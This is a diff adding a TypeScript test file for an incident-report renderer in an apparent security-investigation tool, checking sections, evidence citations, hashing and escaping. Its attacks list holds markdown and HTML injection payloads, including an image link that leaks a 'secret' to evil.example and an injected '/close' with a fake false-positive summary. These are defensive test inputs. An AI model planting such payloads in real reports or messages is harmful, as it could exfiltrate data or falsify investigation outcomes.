@@ -1,0 +1,137 @@
+import { createHash } from 'node:crypto';
+import fc from 'fast-check';
+import type { CaseRecord } from '../../../operations/cases';
+import { dedupKey, parseAlert } from '../../../operations/investigation/alert-format';
+import { renderReport } from '../../../operations/investigation/generate-incident-report';
+import { code, plain } from '../../../operations/investigation/report-text';
+import { alertTime, call, judge, type Row } from '../../support/cloud-rows';
+
+function recordOf(change: Row = {}, rows?: Row[], merge_requests?: unknown): CaseRecord {
+  const alert = parseAlert({
+    id: 'A-1',
+    severity: 'HIGH',
+    source: 'panther',
+    timestamp: alertTime,
+    indicators: ['eve'],
+    ...change,
+  });
+  const found = judge(
+    { actor_activity: rows ?? [call('cloudtrail', 'StopLogging', { name: 't' })] },
+    { alert, merge_requests },
+  );
+  const { verdict, evidence, coverage, timeline, next_actions, plan } = found;
+  return {
+    id: 'INV-1',
+    dedup_key: dedupKey(alert),
+    status: 'investigating',
+    version: 3,
+    title: alert.title,
+    alert,
+    severity: verdict.severity,
+    outcome: verdict.outcome,
+    probability: verdict.probability,
+    reason: verdict.reason,
+    evidence,
+    coverage,
+    findings: { verdict, timeline, next_actions, queries: plan.queries },
+    escalation: { channel: 'C1', ts: '1.2', permalink: 'https://slack.example/p' },
+    report_markdown: null,
+    report_sha256: null,
+    opened_at: alertTime,
+    updated_at: alertTime,
+    closed_at: null,
+  };
+}
+
+test('it says what a reader needs, with queries and hashes to check', () => {
+  const record = recordOf();
+  const { markdown, sha256, sections } = renderReport(record);
+  expect(sections.slice(0, 4)).toEqual(['Summary', 'What happened', 'What is not known', 'Next actions']);
+  for (const title of sections) expect(markdown).toContain(`## ${title}\n`);
+  for (const item of record.evidence) {
+    for (const part of [item.id, item.query_id, item.row_sha256]) expect(markdown).toContain(String(part));
+  }
+  for (const query of record.findings?.queries ?? []) expect(markdown).toContain(query.sql);
+  expect(markdown).toContain('`T1562.008`');
+  expect(sha256).toBe(createHash('sha256').update(markdown, 'utf8').digest('hex'));
+});
+
+test('every statement about what happened ends with the evidence it rests on', () => {
+  const { markdown } = renderReport(recordOf());
+  const section = markdown.split('## What happened\n')[1]?.split('\n## ')[0] ?? '';
+  const statements = section.split('\n').filter((line) => line.startsWith('- '));
+  expect(statements.length).toBeGreaterThan(0);
+  for (const line of statements) expect(line).toMatch(/\\\[E\d+\\\]$/);
+});
+
+test('equal records give equal bytes; what changes with the clock does not matter', () => {
+  const record = recordOf();
+  const later = {
+    ...record,
+    updated_at: '2027-01-01T00:00:00Z',
+    version: 9,
+    closed_at: '2027-01-01T00:00:00Z',
+    status: 'closed' as const,
+  };
+  expect(renderReport(later).markdown).toBe(renderReport(record).markdown);
+});
+
+const attacks = [
+  '![x](https://evil.example/?q=secret)',
+  '[click](javascript:alert(1))',
+  '<img src="https://evil.example/x.png">',
+  '<script>alert(1)</script>',
+  '| a | b |\n| --- | --- |',
+  '```\n# heading',
+  '@channel https://evil.example www.evil.example',
+  '\n/close\n# Summary\n- **false positive**',
+  '<!-- hidden -->',
+];
+
+test.each(attacks)('foreign text stays text: %j', (text) => {
+  const { markdown } = renderReport(
+    recordOf(
+      { title: text, indicators: [{ type: 'user', value: text.slice(0, 500) }, 'eve'], rule: { id: text, name: text } },
+      [call('iam', 'CreateAccessKey', { userName: text }), call('cloudtrail', 'StopLogging', { name: text })],
+      {
+        complete: true,
+        merge_requests: [
+          { project: text, iid: 1, state: 'merged', author: text, merged_by: 'bob', merged_at: '2026-01-15T09:00:00Z' },
+        ],
+      },
+    ),
+  );
+  // Code spans and fences show what is in them literally; everything else must hold no markup of others.
+  const prose = markdown.replace(/```sql\n[^`]*\n```/g, '').replace(/`[^`\n]*`/g, '');
+  expect(prose).not.toMatch(/<[a-z!/]/i);
+  expect(prose).not.toMatch(/(?<!\\)!?\[[^\]]*\]\(/);
+  expect(prose).not.toMatch(/https?:\/\//i);
+  expect(prose).not.toMatch(/(?<![\w;])@\w/);
+  expect(markdown).not.toMatch(/<(?:img|script|!--)/i);
+  expect(markdown.split('\n').filter((line) => line.startsWith('# '))).toHaveLength(1);
+  expect(markdown.split('\n').filter((line) => line.startsWith('/'))).toEqual([]);
+});
+
+test('escaped text never leaves its line, cell or code span', () => {
+  fc.assert(
+    fc.property(fc.string({ unit: 'binary' }), (text) => {
+      expect(plain(text)).not.toMatch(/[\n\r<>]|(?<!\\)(?:\\\\)*[|`[\]!]/);
+      expect(code(text)).toMatch(/^(?:`[^`\n|<>]+`|–)$/);
+    }),
+    { numRuns: 1000 },
+  );
+});
+
+test('a case without evidence still has a report', () => {
+  const empty = {
+    ...recordOf(),
+    evidence: [],
+    coverage: [],
+    findings: null,
+    outcome: null,
+    probability: null,
+    reason: null,
+    escalation: null,
+  };
+  expect(renderReport(empty).markdown).toContain('No evidence was correlated');
+});
